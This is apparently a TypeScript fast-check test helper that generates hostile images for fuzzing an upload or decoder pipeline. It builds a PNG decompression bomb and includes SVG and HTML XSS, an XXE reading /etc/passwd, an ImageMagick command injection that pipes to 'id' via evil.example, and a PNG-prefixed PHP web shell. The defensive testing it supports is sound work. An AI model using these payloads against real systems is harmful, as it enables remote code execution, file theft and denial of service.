import { crc32, deflateSync } from 'node:zlib'
import fc from 'fast-check'

/** A picture that wants to do harm. */
export interface Hostile {
  readonly what: string
  readonly bytes: Buffer
}

const SIGNATURE = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1')

function chunk(name: string, body: Buffer): Buffer {
  const size = Buffer.alloc(4)
  size.writeUInt32BE(body.byteLength)
  const named = Buffer.concat([Buffer.from(name, 'latin1'), body])
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(crc32(named))
  return Buffer.concat([size, named, sum])
}

/** A PNG whose head says a size, whatever is in it. */
export function pngOf(width: number, height: number, rows: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head.set([8, 2, 0, 0, 0], 8)
  return Buffer.concat([
    SIGNATURE,
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

/** A few kB that would be 1.2 GB in memory. */
export const bomb = (): Buffer => pngOf(20_000, 20_000, Buffer.alloc(20_000_000))

const TEXTS = [
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>',
  '<!DOCTYPE html><script>alert(1)</script>',
  '%PDF-1.7\n1 0 obj<</JS(app.alert(1))>>endobj',
  'GIF89a\x01\0\x01\0\0\0\0;',
  'II*\0\x08\0\0\0\0\0',
  'MM\0*\0\0\0\x08\0\0',
  'RIFF\x1a\0\0\0WEBPVP8L\x0d\0\0\0\x2f\0\0\0\x10\x07\x10\x11\x11\x88\x88\xfe\x07\0',
  '\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf',
  'BM\x3a\0\0\0\0\0\0\0\x36\0\0\0',
  'PK\x03\x04',
  "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://evil.example/\")|id'\npop graphic-context",
  '',
].map((text) => Buffer.from(text, 'latin1'))

/** Starts that are told as pictures, with something else behind. */
const STARTS = [
  '\xff\xd8\xff\xe0<html><body onload=alert(1)>',
  '\xff\xd8\xff',
  '\xff\xd8\xff\xd9',
  '\x89PNG\r\n\x1a\n<?php system($_GET[0]); ?>',
  '\x89PNG\r\n\x1a\n',
].map((text) => Buffer.from(text, 'latin1'))

const other = fc.constantFrom(...TEXTS).map((bytes) => ({ what: 'another kind', bytes }))
const begun = fc
  .tuple(fc.constantFrom(...STARTS), fc.uint8Array({ maxLength: 2000 }))
  .map(([start, rest]) => ({ what: 'a start of a picture', bytes: Buffer.concat([start, rest]) }))
const huge = fc
  .tuple(fc.integer({ min: 4097, max: 0x7fffffff }), fc.integer({ min: 4097, max: 0x7fffffff }))
  .map(([width, height]) => ({ what: `says ${width} x ${height}`, bytes: pngOf(width, height) }))
const noise = fc.uint8Array({ maxLength: 5000 }).map((bytes) => ({ what: 'noise', bytes: Buffer.from(bytes) }))

/** Well-formed pictures that were cut off or whose bytes were changed at random; with a text of ours behind their end. */
const spoilt = (pictures: readonly Buffer[]) =>
  fc
    .tuple(
      fc.constantFrom(...pictures),
      fc.array(fc.tuple(fc.double({ min: 0, max: 0.999, noNaN: true }), fc.integer({ min: 0, max: 255 })), {
        maxLength: 8,
      }),
      fc.double({ min: 0.05, max: 1, noNaN: true }),
      fc.boolean(),
    )
    .map(([good, changes, length, hasTail]) => {
      const bytes = Buffer.from(good.subarray(0, Math.ceil(good.byteLength * length)))
      for (const [at, value] of changes) bytes[Math.floor(at * bytes.byteLength)] = value
      const tail = Buffer.from('<script>alert(1)</script>')
      return { what: 'spoilt', bytes: hasTail ? Buffer.concat([bytes, tail]) : bytes }
    })

/** Hostile pictures, some of them made of good ones. */
export const hostileOf = (pictures: readonly Buffer[]): fc.Arbitrary<Hostile> =>
  fc.oneof({ weight: 3, arbitrary: other }, { weight: 3, arbitrary: begun }, { weight: 2, arbitrary: huge }, noise, {
    weight: 6,
    arbitrary: spoilt(pictures),
  })
